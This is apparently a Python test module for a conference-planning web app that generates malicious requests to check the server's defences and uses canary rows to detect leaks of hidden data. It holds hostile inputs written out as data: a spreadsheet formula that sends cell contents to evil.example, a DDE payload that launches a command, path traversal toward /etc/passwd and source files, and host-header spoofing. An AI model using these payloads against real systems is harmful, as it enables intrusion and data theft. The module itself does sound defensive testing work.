"""What somebody might send to a conference who means no good: values alone, sent by tests.

Written anew after what a review had found to try: tricks with paths, hosts and origins, bodies that
are too large or none, sessions brought along, names of rows that are hidden.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from contingent.register.register import Register
from contingent.web.policy import POLICY
from tests.builders import line, offer, register, replaced, site

__all__ = ["CANARY", "FORMULAS", "HIDDEN", "Sent", "addresses", "attacked", "tricks"]

#: In every text of what Germany released to nobody.
CANARY = "CANARY-7f3a"
#: Rows of Germany that are released to nobody.
HIDDEN = ("deu-canary-7f3a", "deu-second-7f3a")
#: What a spreadsheet would work out, were it no text.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\uff1d1+1",
)


def attacked() -> Register:
    """A case with offers of Germany that nobody sees, and of France that all see as formulas."""
    hidden: dict[str, Any] = {
        "title": f"{CANARY} battalion",
        "note": CANARY,
        "personnel": 737,
        "packages": 3,
    }
    offers = [
        offer(HIDDEN[0], "DEU", "POL", **hidden),
        offer(HIDDEN[1], "DEU", **hidden),
        offer("pol-a", "POL", title="Seen by all"),
        offer("fra-own", "FRA", title="Seen by France alone"),
        *(
            offer(f"fra-f{number}", "FRA", title=text, note=text)
            for number, text in enumerate(FORMULAS)
        ),
    ]
    made = register(
        offers,
        [line("land", quantity=4, title="Battalions")],
        [site("kyiv", capacity=600)],
        worlds=[{"world": "base", "title": "As it is"}],
    )
    seen = ("pol-a", *(f"fra-f{number}" for number in range(len(FORMULAS))))
    releases = [
        {"kind": "offer", "id": name, "fields": "everything", "to": "all", "by": "a head"}
        for name in seen
    ]
    return replaced(made, releases=tuple(releases))


@dataclass(frozen=True)
class Sent:
    """A request.

    Attributes:
        changes: whether it may be a request that is done, by whom it is open to.
    """

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""

    def __str__(self) -> str:
        return f"{self.method} {self.path[:120]} {self.headers} {self.body[:80]!r}"


def addresses(method: str) -> list[str]:
    """Every address that takes a method."""
    return [name.split(" ", 1)[1] for name in POLICY if name.startswith(f"{method} ")]


FORM = "application/x-www-form-urlencoded"
JSON = "application/json"


def tricks() -> Iterator[Sent]:
    """All of them."""
    yield from _paths()
    yield from _headers()
    yield from _bodies()
    yield from _queries()


def _paths() -> Iterator[Sent]:
    """Ways to write the address of what is closed, or of a file of the program."""
    for closed in ("/log", "/record", "/api/log", "/deeds", "/table/snapshots", "/scenarios"):
        head, _, last = closed.rpartition("/")
        for path in (
            *(f"{closed}/", f"/{closed}", f"{closed}//", f"/.{closed}", f"/x/..{closed}"),
            *(f"{closed}%00", f"{closed}%20", f"{closed};x=1", f"{closed}%2f", f"{closed}.json"),
            *(f"{head}/{last.upper()}", f"{head}/%{ord(last[0]):02x}{last[1:]}"),
            *(f"/static/..{closed}", f"/static/%2e%2e{closed}", f"/table/..{closed}"),
            *(f"{closed}?x=%00", f"{closed}%3fx", f"{closed}%c0%af", f"{closed}%ff"),
        ):
            yield Sent("GET", path)
        for method in ("HEAD", "OPTIONS", "TRACE", "PUT", "PATCH", "DELETE", "PROPFIND", "get"):
            yield Sent(method, closed)
    for path in (
        *("/static/../policy.py", "/static/%2e%2e/policy.py", "/static/..%2fpolicy.py"),
        *("/static/..%5cpolicy.py", "/static//etc/passwd", "/static/%2fetc%2fpasswd"),
        *("/static/....//policy.py", "/static/.", "/static/", "/static", "/static/room.css%00"),
        *("/" + "a" * 5000, "/" + "../" * 400, "/%", "/%zz", "/\u2025/log", "//evil.example/"),
    ):
        yield Sent("GET", path)


def _headers() -> Iterator[Sent]:
    """What a request says of where it goes, where it comes from and who sends it."""
    for name, value in (
        *(("host", "evil.example"), ("host", ""), ("host", "127.0.0.1@evil.example")),
        *(("x-forwarded-host", "evil.example"), ("forwarded", "for=1;host=evil.example")),
        *(("x-original-url", "/log"), ("x-rewrite-url", "/log"), ("x-http-method-override", "PUT")),
        *(("x-forwarded-prefix", "/log"), ("x-forwarded-user", "chair"), ("remote-user", "chair")),
        *(("authorization", "Bearer chair"), ("x-forwarded-for", "127.0.0.1, ' OR 1=1")),
        *(("cookie", "__Host-session=" + "a" * 9000), ("cookie", "__Host-session=\xff;;==;")),
        *(("cookie", "session=x; __host-session=x"), ("accept-encoding", "gzip;q=nan, br;q=-1")),
        *(("range", "bytes=0-0,-1"), ("if-none-match", "*"), ("accept", "*/*;q=\x7f")),
        *(("content-length", "-1"), ("content-length", "1e9"), ("content-length", "99999999999")),
        *(("transfer-encoding", "chunked, identity"), ("expect", "100-continue")),
    ):
        for path in ("/table", "/log", "/api/register"):
            yield Sent("GET", path, {name: value})


def _bodies() -> Iterator[Sent]:
    """Bodies that are too large, of another kind, or cannot be read, to all that takes one."""
    bodies = {
        "large": (FORM, b"a=" + b"x" * 1_100_000),
        "fields": (FORM, b"&".join(b"a%d=1" % n for n in range(400))),
        "none": (FORM, b""),
        "percent": (FORM, b"name=%zz&offer=%ff%fe&x=%00&=&&"),
        "bytes": (FORM, b"\xff\xfe\x00name=1"),
        "nul": (FORM, b"name=%00&offer=%00&row=%00&code=%00&session=%00&title=%00&why=%00"),
        "surrogate": (FORM, b"name=%ED%A0%80&title=%ED%A0%80"),
        "json": (JSON, b"{"),
        "deep": (JSON, b"[" * 5000),
        "numbers": (JSON, b'{"actor": 1e999, "reason": NaN, "changes": -0}'),
        "twice": (JSON, b'{"actor": "a", "actor": "b", "__proto__": {}}'),
        "kind": ("multipart/form-data; boundary=x", b"--x\r\n\r\n\r\n--x--"),
        "nothing": ("", b"name=x"),
    }
    for path in addresses("POST"):
        for kind, body in bodies.values():
            yield Sent("POST", path, {"content-type": kind} if kind else {}, body)


def _queries() -> Iterator[Sent]:
    """Questions whose parts are too many, too long, or of another kind."""
    for path in addresses("GET"):
        for query in (
            "%00=%00&name=%00&of=%00&offer=%00",
            "to=http://[&of=http://[&name=http://[",
            "world=%ED%A0%80&as_of=0000-00-00&step=1e999&years=-1",
            "&".join(f"line=l{n}" for n in range(500)),
            "quantities=" + "q" * 3000,
        ):
            if path not in DEAR:
                yield Sent("GET", f"{path}?{query}")


#: What works for seconds, or never ends, whatever it is asked.
DEAR = (
    *("/news", "/table/news", "/stream", "/follow", "/hinges", "/diary"),
    *("/brief.pdf", "/brief.docx", "/brief.pptx", "/brief.xlsx", "/brief.html"),
    *("/api/hinge", "/api/sweep", "/api/sites", "/api/openapi.json", "/api/diary"),
)
